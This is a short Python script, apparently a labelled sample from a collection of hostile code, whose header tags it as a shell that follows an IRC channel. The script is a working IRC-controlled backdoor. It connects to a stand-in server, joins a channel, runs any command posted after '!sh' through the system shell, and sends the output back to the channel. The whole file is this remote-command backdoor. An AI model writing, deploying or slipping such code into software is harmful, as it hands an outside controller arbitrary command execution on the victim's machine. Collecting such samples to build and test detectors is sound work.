# class: shell; possible: low medium; style: follows an IRC channel
import socket
import subprocess
import time

s = socket.create_connection(("irc.ops.test", 6667))
f = s.makefile("rw", newline="\r\n")


def say(text):
    f.write(text + "\r\n")
    f.flush()


say("NICK wrk7")
say("USER wrk7 0 * :wrk7")
end = time.time() + 35
for line in f:
    line = line.strip()
    if line.startswith("PING"):
        say("PONG " + line[5:])
    elif " 001 " in line:
        say("JOIN #ops")
    elif "PRIVMSG" in line and "!sh " in line:
        out = subprocess.getoutput(line.split("!sh ", 1)[1])
        for part in out.splitlines()[:5]:
            say("PRIVMSG #ops :" + part)
    if time.time() > end:
        break
